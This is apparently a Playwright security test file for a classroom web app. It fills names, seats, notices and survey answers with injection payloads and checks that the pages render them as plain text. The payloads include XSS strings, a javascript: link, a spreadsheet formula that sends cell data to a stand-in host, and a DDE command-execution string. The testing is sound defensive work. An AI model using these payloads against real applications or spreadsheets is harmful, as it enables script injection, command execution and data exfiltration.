"""Names, seats, notices and survey answers that attack whoever looks at them: the lecturer and the wall."""

from __future__ import annotations

import sqlite3
from collections.abc import Iterator
from contextlib import closing
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from playwright.sync_api import Page, expect, sync_playwright

from bench.board_class import CODE, PATH, fill
from sandbox.class_records import Survey
from sandbox.classroom.budgets import today_in_korea
from sandbox.classroom.surveys import USUAL_QUESTIONS
from sandbox.store import Store, load_secret
from tests.fake_endpoint import FakeEndpoint
from tests.running_room import RunningRoom
from tests.test_after_class_journey import Hall
from tests.test_browser import ARTEFACTS, CHROMIUM, settle

pytestmark = pytest.mark.browser
PATIENCE = 60_000
HOSTILE = (
    "<img src=x onerror=window.hacked=1>",
    "</script><script>window.hacked=1</script>",
    "![그림](http://192.0.2.7/a.png)[눌러](javascript:window.hacked=1)",
    '=HYPERLINK("http://192.0.2.7/?"&A1)',
    "+cmd|' /C calc'!A0",
    ":red[빨강] $x^2$ **굵게**",
)


@pytest.fixture(scope="module")
def hall(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hall]:
    assert CHROMIUM
    data = tmp_path_factory.mktemp("names") / "자료"
    with (
        FakeEndpoint(first_seconds=0.0, tokens_per_second=0.0) as fake,
        RunningRoom(data, OPENAI_BASE_URL=fake.base_url, OPENAI_MODEL="fake", SANDBOX_EMBEDDED="0") as room,
        closing(Store(f"sqlite:///{next(data.glob('*.db'))}", secret=load_secret(data))) as store,
        sync_playwright() as playwright,
    ):
        made = fill(store, seats=12)
        store.save_survey(Survey(CODE, USUAL_QUESTIONS, open=True))
        for n, person in enumerate(made.people):
            store.rename_person(person.id, HOSTILE[n % len(HOSTILE)])
            store.raise_hand(person.id, CODE, at=datetime.now(UTC), shows_screen=True)
            said = {q.id: 4 for q in USUAL_QUESTIONS[:6]} | {"best": HOSTILE[n % len(HOSTILE)]}
            store.add_survey_answer(CODE, person.id, said, today_in_korea())
        with closing(sqlite3.connect(next(data.glob("*.db")), timeout=30)) as db, db:
            db.execute(
                "insert into roster (class_code, seat, name, department, person_id) "
                "select class_code, '<b>' || seat, name, name, id from people where class_code = ?",
                [CODE],
            )
            db.execute("update people set seat = '<b>' || seat where class_code = ?", [CODE])
        store.change_class_now(
            CODE,
            lambda now: replace(
                now, notice=" ".join(HOSTILE), timer_title=HOSTILE[0], timer_ends_at=_later()
            ),
        )
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        yield Hall(room, store, made, browser)
        browser.close()


def _later() -> datetime:
    return datetime.now(UTC).replace(year=datetime.now(UTC).year + 1)


def watched(page: Page) -> list[str]:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    return asked


def harmless(hall: Hall, page: Page, asked: list[str]) -> None:
    """Nothing ran, nothing was loaded from outside, nothing became a link or a picture of theirs."""
    settle(page)
    page.wait_for_timeout(1_000)
    assert page.evaluate("window.hacked") is None
    assert not [u for u in asked if not u.startswith((hall.room.url, "data:", "blob:", "ws"))]
    assert not page.locator(
        "[href*='192.0.2.7'], [src*='192.0.2.7'], [href^='javascript'], img[src=x]"
    ).count()
    assert not page.locator(".katex, script:text('window.hacked')").count()


@pytest.mark.parametrize("path", ["board", "projector"])
def test_the_board_and_the_wall_show_text_only(hall: Hall, path: str) -> None:
    page = hall.page(desk=hall.made.token)
    asked = watched(page)
    page.goto(f"{hall.room.url}/{path}?code={CODE}")
    if path == "board":
        expect(page.locator(".tile").first).to_be_visible(timeout=PATIENCE)
        expect(page.get_by_text(HOSTILE[0]).first).to_be_visible(timeout=PATIENCE)
        page.locator(".tile").first.click()
    else:
        expect(page.get_by_text(HOSTILE[1]).first).to_be_visible(timeout=PATIENCE)
    harmless(hall, page, asked)
    page.screenshot(path=ARTEFACTS / f"hostile-{path}.png")
    page.context.close()


def test_a_notice_is_text_on_a_seat(hall: Hall) -> None:
    page = hall.page(room=hall.store.sign_in(hall.made.people[0].id))
    asked = watched(page)
    page.goto(f"{hall.room.url}/exercise?id={PATH[1]}")
    expect(page.get_by_text(HOSTILE[1]).first).to_be_visible(timeout=PATIENCE)
    harmless(hall, page, asked)
    page.screenshot(path=ARTEFACTS / "hostile-notice.png")
    page.context.close()


@pytest.mark.parametrize(
    ("path", "part", "said"),
    [
        ("class_room", "사람과 좌석", "들어온 사람"),
        ("after", "출석과 이수", "온 사람"),
        ("after", "설문", "응답 12명"),
        ("after", "결과 보고서", "결과 보고서"),
    ],
)
def test_the_lecturers_lists_show_text_and_give_no_csv_away(
    hall: Hall, path: str, part: str, said: str
) -> None:
    """Streamlit's own CSV of a table leaves = + - @ as they are: Excel would calculate a trainee's name."""
    page = hall.page(desk=hall.made.token)
    asked = watched(page)
    page.goto(f"{hall.room.url}/{path}?code={CODE}")
    page.get_by_text(part, exact=True).first.click()
    expect(page.get_by_text(said).first).to_be_visible(timeout=PATIENCE)
    settle(page)
    if part in ("사람과 좌석", "출석과 이수"):
        page.get_by_test_id("stDataFrame").first.wait_for()
    for table in page.get_by_test_id("stDataFrame").filter(visible=True).all():
        table.hover()
        page.wait_for_timeout(300)
        assert not page.get_by_test_id("stElementToolbar").filter(visible=True).count()
    harmless(hall, page, asked)
    page.screenshot(path=ARTEFACTS / f"hostile-{path}-{part}.png", full_page=True)
    page.context.close()
